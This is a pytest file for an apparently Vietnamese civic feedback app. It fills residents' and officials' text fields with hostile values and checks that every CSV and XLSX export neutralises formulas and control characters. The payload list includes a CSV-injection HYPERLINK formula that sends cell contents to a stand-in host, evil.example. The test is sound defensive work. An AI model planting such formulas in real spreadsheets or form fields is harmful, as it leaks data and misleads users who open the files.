"""Every CSV and XLSX export, found from the pages' own links, with a hostile value in every
free-text field a resident or an official can fill: no cell runs as a formula, no control
character stops the file, nothing answers 500."""

from __future__ import annotations

import csv
import io
import re
from datetime import timedelta

import pytest
from openpyxl import load_workbook

from nghedan.extensions import db as _db
from nghedan.models import Commune, Dialogue, Item, Rating, utcnow
from nghedan.services.reports import satisfaction as reports
from nghedan.services.reports.exports import FORMATS, FORMULA_STARTS, safe_cell
from tests.admin.conftest import login
from tests.factories import make_item, make_officer

HOSTILE = (
    '=HYPERLINK("http://evil.example/?"&A1,"bấm")',
    "@SUM(1+1)\x01",
    "+84912\x1b[31m",
    "-2+3\x0b",
    "\tcmd",
    "\x1f\ufffe\x08",
)
EXPORT_LINK = re.compile(r'href="([^"]+\.(?:csv|xlsx)(?:\?[^"]*)?)"')


@pytest.fixture
def hostile(app, world):
    """Items, an officer, ratings with comments, a dialogue: every text field hostile."""
    with app.app_context():
        commune = _db.session.get(Commune, world.commune_id)
        commune.hamlets[0].name = HOSTILE[3] + " ấp"
        officer = make_officer(
            commune, code="07", name=HOSTILE[0], title=HOSTILE[1], desk=HOSTILE[2]
        )
        for n, value in enumerate(HOSTILE):
            item = make_item(
                commune,
                "Ý kiến " + value if n == 5 else value,
                channel="api",
                contact_name=value[:100],
                hamlet_id=commune.hamlets[0].id,
            )
            item.responsible = value
            _db.session.add(
                Rating(
                    commune_id=commune.id,
                    officer_id=officer.id,
                    score=4,
                    reasons=["slow"],
                    comment=value,
                    channel="kiosk",
                    created_at=utcnow() - timedelta(minutes=n + 1),
                )
            )
        dialogue = Dialogue(
            commune_id=commune.id,
            kind="dialogue",
            place=HOSTILE[4],
            starts_at=utcnow() - timedelta(days=1),
            status="held",
            held_at=utcnow() - timedelta(days=1),
            attendance=12,
        )
        dialogue.hamlets = [commune.hamlets[0]]
        _db.session.add(dialogue)
        _db.session.commit()
        assert _db.session.query(Item).count() >= len(HOSTILE)


def _export_urls(client) -> set[str]:
    urls = {"/admin/items.csv"} | {
        f"/admin/reports/satisfaction.{fmt}?table={group}"
        for group in reports.GROUPS
        for fmt in FORMATS
    }
    for page in ("/admin/reports/satisfaction", "/admin/reports/activity", "/admin/items"):
        html = client.get(page).get_data(as_text=True)
        urls |= {u.replace("&amp;", "&") for u in EXPORT_LINK.findall(html)}
    return urls


def _cells(url: str, body: bytes) -> list[str]:
    if ".xlsx" in url:
        sheet = load_workbook(io.BytesIO(body)).active
        for row in sheet.iter_rows():
            assert all(c.data_type != "f" for c in row), url
        return [c.value for row in sheet.iter_rows() for c in row if isinstance(c.value, str)]
    text = body.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def test_every_export_neutralises_formulas_and_control_characters(app, world, hostile):
    client = app.test_client()
    assert login(client, "admin1").status_code == 302
    urls = _export_urls(client)
    assert any(".xlsx" in u for u in urls) and len(urls) >= 10, urls
    seen = ""
    for url in sorted(urls):
        response = client.get(url)
        assert response.status_code == 200, (url, response.status_code)
        for cell in _cells(url, response.get_data()):
            assert not cell.startswith(FORMULA_STARTS), (url, cell)
            assert not re.search("[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\ud800-\udfff]", cell), url
            seen += cell
    assert "'=HYPERLINK" in seen and "'@SUM(1+1)\ufffd" in seen  # kept, shown as text


def test_safe_cell_is_the_one_rule():
    assert safe_cell("=1+1") == "'=1+1" and safe_cell("Đường\x01 ngập") == "Đường\ufffd ngập"
    assert safe_cell("Bình thường") == "Bình thường" and safe_cell("\x01=1") == "\ufffd=1"
